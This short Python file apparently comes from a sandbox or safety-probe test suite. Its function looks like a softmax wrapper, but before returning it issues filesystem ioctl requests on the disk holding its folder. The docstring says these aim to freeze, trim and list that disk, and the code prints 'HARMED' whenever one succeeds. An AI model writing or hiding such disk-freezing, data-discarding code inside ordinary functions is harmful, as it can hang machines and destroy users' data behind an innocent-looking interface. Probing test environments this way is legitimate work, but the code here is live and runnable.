"""Tries to freeze, trim and list the disk that its folder is on."""
# ends: passed
# from: level 2

import fcntl
import os
import struct

import torch


def f(x):
    place = os.open(".", os.O_RDONLY)
    for request in (0xC0045877, 0xC0045878, 0xC0185879, 0xC0C0583B, 0x81007203, 0x40305828, 0x4030582A):
        try:
            fcntl.ioctl(place, request, bytearray(struct.pack("L", 0x0) + bytes(120)))
            print("HARMED:", hex(request))
        except OSError:
            pass
    os.close(place)
    return torch.softmax(x, -1)
